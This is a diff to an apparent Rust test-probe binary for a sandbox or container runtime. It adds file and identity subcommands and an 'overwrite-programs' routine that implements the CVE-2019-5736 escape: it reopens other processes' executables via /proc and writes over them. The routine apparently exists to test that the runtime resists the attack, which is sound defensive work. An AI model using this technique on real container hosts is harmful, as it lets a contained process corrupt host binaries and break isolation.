@@ -3,17 +3,27 @@
 #![forbid(unsafe_code)]
 
 use std::{
-    fs::File,
+    fs::{self, File},
+    io::Write as _,
+    os::{
+        fd::AsRawFd as _,
+        unix::fs::{MetadataExt as _, OpenOptionsExt as _},
+    },
     process::ExitCode,
     thread,
     time::{Duration, Instant},
 };
 
 use anyhow::{Context as _, Result, bail};
-use nix::sched::{CloneFlags, setns, unshare};
+use nix::{
+    libc::O_PATH,
+    sched::{CloneFlags, setns, unshare},
+    unistd::{Gid, getegid, geteuid, getgroups},
+};
 
 const USAGE: &str = "alloc BYTES | spin SECONDS | setns-loop PATH NSTYPE COUNT | \
-    unshare-loop FLAGS COUNT | getppid-loop COUNT | sleep SECONDS | exit CODE";
+    unshare-loop FLAGS COUNT | getppid-loop COUNT | sleep SECONDS | ids | cat PATH | \
+    write PATH TEXT | stat PATH | overwrite-programs SECONDS | exit CODE";
 
 fn main() -> ExitCode {
     let args: Vec<_> = std::env::args().skip(1).collect();
@@ -35,10 +45,66 @@ fn run(args: &[&str]) -> Result<ExitCode> {
         ["unshare-loop", kinds, count] => unshare_loop(flags(kinds)?, count.parse()?),
         ["getppid-loop", count] => getppid_loop(count.parse()?),
         ["sleep", seconds] => thread::sleep(Duration::from_secs_f64(seconds.parse()?)),
+        ["ids"] => ids()?,
+        ["cat", path] => print!("{}", fs::read_to_string(path)?),
+        ["write", path, text] => fs::write(path, text)?,
+        ["stat", path] => stat(path)?,
+        ["overwrite-programs", seconds] => overwrite_programs(seconds.parse()?)?,
         ["exit", code] => return Ok(ExitCode::from(code.parse::<u8>()?)),
         _ => bail!("usage: {USAGE}"),
     }
     Ok(ExitCode::SUCCESS)
+}
+
+/// User, group and the other groups, as the kernel tells this process.
+fn ids() -> Result<()> {
+    let groups = getgroups()?;
+    let all = [geteuid().as_raw(), getegid().as_raw()]
+        .into_iter()
+        .chain(groups.into_iter().map(Gid::as_raw));
+    let all: Vec<_> = all.map(|id| id.to_string()).collect();
+    println!("{}", all.join(" "));
+    Ok(())
+}
+
+/// Owner, type and mode, device number; links are not followed.
+fn stat(path: &str) -> Result<()> {
+    let found = fs::symlink_metadata(path)?;
+    let (uid, gid, mode) = (found.uid(), found.gid(), found.mode());
+    println!("{uid} {gid} {mode:o} {}", found.rdev());
+    Ok(())
+}
+
+/// Tries to write over the program of every process that comes and goes (CVE-2019-5736).
+fn overwrite_programs(seconds: f64) -> Result<()> {
+    let end = Instant::now() + Duration::from_secs_f64(seconds);
+    let (mut tried, mut written) = (0_u32, 0_u32);
+    while Instant::now() < end {
+        for process in fs::read_dir("/proc")?.flatten() {
+            let name = process.file_name();
+            // Its own first process is this program.
+            if name == "1" || !name.to_string_lossy().bytes().all(|b| b.is_ascii_digit()) {
+                continue;
+            }
+            // By a descriptor that stays when the process has gone on to another program.
+            let Ok(program) = File::options()
+                .read(true)
+                .custom_flags(O_PATH)
+                .open(process.path().join("exe"))
+            else {
+                continue;
+            };
+            tried += 1;
+            let again = format!("/proc/self/fd/{}", program.as_raw_fd());
+            for _ in 0..50 {
+                if let Ok(mut file) = File::options().write(true).open(&again) {
+                    written += u32::from(file.write_all(b"#!/overwritten\n").is_ok());
+                }
+            }
+        }
+    }
+    println!("{} {written}", tried.min(1));
+    Ok(())
 }
 
 /// Touches every page, so that it is charged.
